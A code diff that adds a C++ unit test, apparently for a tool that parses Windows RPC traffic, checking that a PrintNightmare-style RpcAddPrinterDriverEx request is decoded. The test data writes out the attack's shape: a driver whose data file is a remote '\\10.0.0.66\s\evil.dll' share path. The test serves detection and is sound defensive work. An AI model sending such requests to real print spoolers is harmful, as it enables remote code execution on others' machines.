@@ -134,6 +134,26 @@ TEST(ReaderTest, AttributesAndNameOfDrsGetNcChanges) {
   EXPECT_EQ(details[1].summary, "unicodePwd");
 }
 
+// PrintNightmare: the driver that is added, and the spooler's list in which it looks up the folder.
+TEST(ReaderTest, PrintDrivers) {
+  Stub added;
+  added.u32(0).u32(2).u32(2).u32(0x20000);  // no server name, level, union
+  added.u32(3).u32(0x20004).u32(0x20008).u32(0x2000C).u32(0x20010).u32(0);
+  added.string("1234").string("Windows x64").string("C:\\a\\UNIDRV.DLL");
+  added.string("\\\\10.0.0.66\\s\\evil.dll").u32(0x8014);
+  const auto details = read("winspool", "RpcAddPrinterDriverEx", added);
+  ASSERT_EQ(details.size(), 1u);
+  EXPECT_EQ(details[0].kind, "print_driver");
+  EXPECT_EQ(details[0].argument, "pDriverContainer");
+  EXPECT_EQ(details[0].item.value("data_file"), "\\\\10.0.0.66\\s\\evil.dll");
+  EXPECT_EQ(details[0].summary, "1234, C:\\a\\UNIDRV.DLL, \\\\10.0.0.66\\s\\evil.dll");
+
+  // The level stands in the request, which is missing here: nothing can be read.
+  Stub listed;
+  listed.u32(0x20000).u32(8).raw(std::string("\4\0\0\0a\0\0\0", 8)).u32(8).u32(1).u32(0);
+  EXPECT_TRUE(read("winspool", "RpcEnumPrinterDrivers", listed, ndr::Half::kResponse).empty());
+}
+
 TEST(ReaderTest, NothingInOrdinaryArguments) {
   Stub stub;
   stub.u32(0).u32(0).u32(1);
